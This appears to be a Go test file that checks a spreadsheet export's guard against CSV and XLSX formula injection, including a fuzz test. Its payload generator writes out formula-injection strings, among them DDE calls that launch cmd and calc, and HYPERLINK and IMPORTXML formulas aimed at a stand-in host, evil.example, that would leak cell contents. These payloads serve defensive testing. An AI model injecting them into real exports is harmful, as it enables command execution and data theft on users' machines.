package register_test

import (
	"archive/zip"
	"bytes"
	"encoding/csv"
	"io"
	"strings"
	"testing"

	"github.com/xuri/excelize/v2"

	"claimline/intake"
	"claimline/intake/register"
)

func TestGuard(t *testing.T) {
	t.Parallel()
	for text, want := range map[string]string{
		"":                     "",
		"Anna Voorbeeld":       "Anna Voorbeeld",
		"17.50 EUR":            "17.50 EUR",
		"=1+1":                 "'=1+1",
		"+31600000042":         "'+31600000042",
		"-":                    "'-",
		"@sum":                 "'@sum",
		"\t1":                  "'\t1",
		"\rx":                  "'\rx",
		"'=1":                  "''=1",
		`"=1+1"`:               `'"=1+1"`,
		" \u200b=1":            "' \u200b=1",
		"＝1":                   "'＝1",
		"then; =1":             "then;' =1",
		"two\n=1\nthree":       "two\n'=1\nthree",
		"a=b, c-d (e@example)": "a=b, c-d (e@example)",
	} {
		if got := register.Guard(text); got != want {
			t.Errorf("guard(%q) = %q, want %q", text, got, want)
		}
	}
}

// runs is how the most careless spreadsheet program would see a cell: an apostrophe makes a text
// of it, blanks and quotes are passed over.
func runs(cell string) bool {
	cell = strings.TrimLeft(cell, " \"\u00a0\u200b\ufeff\v\f\x00\n")
	return cell != "" && strings.ContainsAny(cell[:1], "=+-@\t\r") || strings.HasPrefix(cell, "＝")
}

// unguard takes away what guard put in.
func unguard(text string) string {
	var out strings.Builder
	for _, piece := range pieces(text) {
		if rest, ok := strings.CutPrefix(piece, "'"); ok && register.Guard(rest) == piece {
			piece = rest
		}
		out.WriteString(piece)
	}
	return out.String()
}

func pieces(text string) []string {
	var out []string
	for text != "" {
		end := strings.IndexAny(text, ";\t\r\n") + 1
		if end == 0 {
			end = len(text)
		}
		out, text = append(out, text[:end]), text[end:]
	}
	return out
}

func FuzzGuard(f *testing.F) {
	for _, seed := range []string{"", "=1", "'=1", "''", "\t=1", "a;=1", "a\r\n=1", "\"\"=1", "＝1", "\xff=1", "é;é", "'\t'"} {
		f.Add(seed)
	}
	f.Fuzz(func(t *testing.T, text string) {
		guarded := register.Guard(text)
		if back := unguard(guarded); back != text {
			t.Fatalf("%q was guarded as %q, which gives back %q", text, guarded, back)
		}
		if runs(guarded) {
			t.Fatalf("%q was guarded as %q, which may be run", text, guarded)
		}
		for _, cell := range strings.FieldsFunc(guarded, func(r rune) bool { return strings.ContainsRune(";\t\r\n", r) }) {
			if runs(cell) {
				t.Fatalf("%q was guarded as %q: the cell %q may be run", text, guarded, cell)
			}
		}
	})
}

// payloads are a thousand ways to smuggle a formula into a cell.
func payloads() []string {
	before := []string{"", " ", "\t", "\r", "\n", "'", `"`, `""`, "\u00a0", "\u200b", "\ufeff", "hello;", "hello;\"", "hello\n", "hello\t", "hello\r\n ", `hello","`, "hello; \""}
	signs := []string{"=", "+", "-", "@", "＝", "=+", "-@"}
	bodies := []string{`cmd|' /C calc'!A0`, `1+1`, `HYPERLINK("https://evil.example","click")`, `SUM(1,1)*cmd|'x'!A1`, `IMPORTXML(CONCAT("https://evil.example/",A1),"//a")`, `DDE("cmd";"/C calc";"x")`, `1+1;`, `1+1"`}
	var out []string
	for _, b := range before {
		for _, s := range signs {
			for _, body := range bodies {
				out = append(out, b+s+body)
			}
		}
	}
	return out
}

func smuggler(t *testing.T, payload string) intake.File {
	f := family(t, payload, said{
		"lm.who": {"member"}, "lm.name": {payload}, "lm.email": {payload}, "b.name#1": {payload}, "b.handle#1": {payload, payload},
		"b.item#1": {"bedtime"}, "k.special": {"yes"}, "b.words#1": {payload}, "lm.deposit": {payload}, "b.lamps#1": {payload}, "b.first#1": {payload},
	}, 1)
	f.Submission.Flags = []intake.Flag{{Code: payload}}
	f.Submission.Members[0].Reasons = []string{payload}
	return f
}

func TestNoFormulaGetsThrough(t *testing.T) {
	t.Parallel()
	c := lanterns(t)
	var files []intake.File
	for _, p := range payloads() {
		files = append(files, smuggler(t, p))
	}
	if len(files) < 1000 {
		t.Fatalf("only %d payloads", len(files))
	}
	t.Run("csv", func(t *testing.T) {
		t.Parallel()
		out, _ := registerOf(t, register.Options{Campaign: c, Format: register.CSV, Names: true, All: true}, files...)
		rows, err := csv.NewReader(bytes.NewReader(out)).ReadAll()
		if err != nil {
			t.Fatal(err)
		}
		if len(rows) != len(files)+1 {
			t.Fatalf("%d rows of %d submissions and a header", len(rows), len(files))
		}
		for _, row := range rows {
			for _, cell := range row {
				if runs(cell) {
					t.Fatalf("a cell that may be run: %q", cell)
				}
			}
		}
		// A program that splits at semicolons or tabs instead, and knows quotes only around a whole cell.
		for _, cell := range strings.FieldsFunc(string(out), func(r rune) bool { return strings.ContainsRune(";\t\r\n", r) }) {
			if runs(cell) {
				t.Fatalf("split elsewhere, a cell may be run: %q", cell)
			}
		}
	})
	t.Run("xlsx", func(t *testing.T) {
		t.Parallel()
		out, _ := registerOf(t, register.Options{Campaign: c, Format: register.XLSX, Names: true, All: true, Scratch: t.TempDir()}, files...)
		for name, part := range parts(t, out) {
			if strings.HasPrefix(name, "xl/worksheets/") && (strings.Contains(part, "<f>") || strings.Contains(part, "<f ")) {
				t.Errorf("%s holds a formula", name)
			}
		}
		book, err := excelize.OpenReader(bytes.NewReader(out))
		if err != nil {
			t.Fatal(err)
		}
		defer book.Close()
		rows, err := book.GetRows("special")
		if err != nil {
			t.Fatal(err)
		}
		for i := range files {
			cell, err := excelize.CoordinatesToCellName(len(rows[0]), i+2)
			if err != nil {
				t.Fatal(err)
			}
			formula, err := book.GetCellFormula("special", cell)
			if err != nil || formula != "" {
				t.Fatalf("%s holds the formula %q (%v)", cell, formula, err)
			}
			if kind, err := book.GetCellType("special", cell); err != nil || kind != excelize.CellTypeInlineString {
				t.Fatalf("%s is no text but %v (%v)", cell, kind, err)
			}
		}
	})
}

// parts are the files inside a workbook.
func parts(t testing.TB, book []byte) map[string]string {
	t.Helper()
	archive, err := zip.NewReader(bytes.NewReader(book), int64(len(book)))
	if err != nil {
		t.Fatal(err)
	}
	out := map[string]string{}
	for _, f := range archive.File {
		r, err := f.Open()
		if err != nil {
			t.Fatal(err)
		}
		body, err := io.ReadAll(r)
		if err != nil {
			t.Fatal(err)
		}
		out[f.Name] = string(body)
	}
	return out
}
